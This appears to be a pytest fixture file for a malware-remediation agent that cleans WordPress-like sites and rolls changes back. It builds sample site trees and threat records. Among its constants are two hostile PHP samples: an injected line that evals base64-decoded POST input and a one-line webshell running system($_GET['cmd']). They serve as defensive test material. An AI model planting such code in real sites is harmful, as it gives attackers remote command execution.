"""Real trees on disk and a real agent context for the playbook tests."""

from __future__ import annotations

import hashlib
import os
import secrets
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from cleanshift.remediation import RemediationContext, execute_remediation

WP_VERSION = "6.1.9"
VERSION_PHP = (
    b"<?php\n/**\n * WordPress Version\n */\n"
    b"$wp_version = '6.1.9';\n$wp_db_version = 53496;\n"
)
BLOG_HEADER = (
    b"<?php\n/**\n * Loads the WordPress environment and template.\n *\n"
    b" * @package WordPress\n */\n\n"
    b"if ( ! isset( $wp_did_header ) ) {\n\n\t$wp_did_header = true;\n\n"
    b"\t// Load the WordPress library.\n"
    b"\trequire_once __DIR__ . '/wp-load.php';\n\n"
    b"\t// Set up the WordPress query.\n\twp();\n\n"
    b"\t// Load the theme template.\n"
    b"\trequire_once ABSPATH . WPINC . '/template-loader.php';\n\n}\n"
)
INJECTED_FIRST_LINE = (
    b"<?php if (isset($_POST['k'])) { @eval(base64_decode($_POST['k'])); } ?>\n"
)
WEBSHELL = b"<?php\n$x = 1;\nsystem($_GET['cmd']);\n"
PLUGIN_MAIN = (
    b"<?php\n/*\n * Plugin Name: Contact Helper\n * Version: 1.2.0\n */\n"
    b"function contact_helper() { return 'ok'; }\n"
)
# Who owns files in these tests when running as root, to prove owners come back.
OTHER_UID, OTHER_GID = 4242, 4343


@dataclass
class Snapshot:
    """Everything about a file that a rollback must give back."""

    data: bytes
    mode: int
    uid: int
    gid: int
    mtime_ns: int

    @classmethod
    def of(cls, path: Path) -> Snapshot:
        info = os.lstat(path)
        return cls(
            path.read_bytes(),
            info.st_mode & 0o7777,
            info.st_uid,
            info.st_gid,
            info.st_mtime_ns,
        )


def write(root: Path, relative: str, content: bytes) -> Path:
    """Write ``content`` at ``root/relative``, creating folders."""
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path


def give_away(path: Path, mode: int = 0o640) -> None:
    """An unusual owner (as root), mode and mtime, so restoring them shows."""
    if os.geteuid() == 0:
        os.chown(path, OTHER_UID, OTHER_GID)
    os.chmod(path, mode)
    os.utime(path, ns=(1_600_000_000_123_456_789, 1_500_000_000_987_654_321))


def threat_for(path: Path, **extra: Any) -> dict[str, Any]:
    """A file threat as the control plane sends it."""
    return {
        "threat_id": f"thr_{secrets.token_hex(6)}",
        "type": "malware",
        "path": str(path),
        "raw_path": None,
        "location": None,
        "rule": "test",
        "sha256": hashlib.sha256(path.read_bytes()).hexdigest(),
        **extra,
    }


@pytest.fixture
def web_root(tmp_path: Path) -> Path:
    """An empty web root."""
    root = tmp_path / "www"
    root.mkdir(exist_ok=True)
    return root


@pytest.fixture
def site(web_root: Path) -> Path:
    """A small WordPress-like site with one plugin."""
    root = web_root / "example.com"
    write(root, "wp-includes/version.php", VERSION_PHP)
    write(root, "wp-blog-header.php", BLOG_HEADER)
    write(root, "index.php", b"<?php\nrequire __DIR__ . '/wp-blog-header.php';\n")
    write(root, "wp-content/plugins/contact-helper/contact-helper.php", PLUGIN_MAIN)
    write(root, "wp-content/plugins/contact-helper/readme.txt", b"Stable tag: 1.2.0\n")
    return root


@pytest.fixture
def context(tmp_path: Path, web_root: Path) -> RemediationContext:
    """The agent's context: state outside the web root, tools from PATH."""
    return RemediationContext(state_dir=tmp_path / "state", web_roots=[web_root])


Run = Callable[..., tuple[str, dict[str, Any]]]


@pytest.fixture
def remediate(context: RemediationContext) -> Run:
    """Run a playbook on a threat as the agent would."""

    def run(
        playbook: str, threat: dict[str, Any], *, dry_run: bool = False, rid: str = ""
    ) -> tuple[str, dict[str, Any]]:
        payload = {
            "remediation_id": rid or f"rem_{secrets.token_hex(6)}",
            "playbook": playbook,
            "dry_run": dry_run,
            "threat": threat,
        }
        status, summary = execute_remediation("remediate", payload, context)
        summary["remediation_id"] = payload["remediation_id"]
        return status, summary

    return run


@pytest.fixture
def rollback(context: RemediationContext) -> Run:
    """Undo a remediation from the summary ``remediate`` returned."""

    def run(summary: dict[str, Any]) -> tuple[str, dict[str, Any]]:
        payload = {"remediation_id": summary["remediation_id"], "undo": summary["undo"]}
        return execute_remediation("rollback", payload, context)

    return run


def tree_state(root: Path) -> dict[str, tuple[bytes, int, int]]:
    """Every entry below ``root``: bytes, mode and (for files) mtime.

    A folder's mtime is left out: any rename inside it changes that.
    """
    state = {}
    for path in sorted(root.rglob("*")):
        info = os.lstat(path)
        if path.is_file():
            state[str(path.relative_to(root))] = (
                path.read_bytes(),
                info.st_mode,
                info.st_mtime_ns,
            )
        else:
            state[str(path.relative_to(root))] = (b"", info.st_mode, 0)
    return state
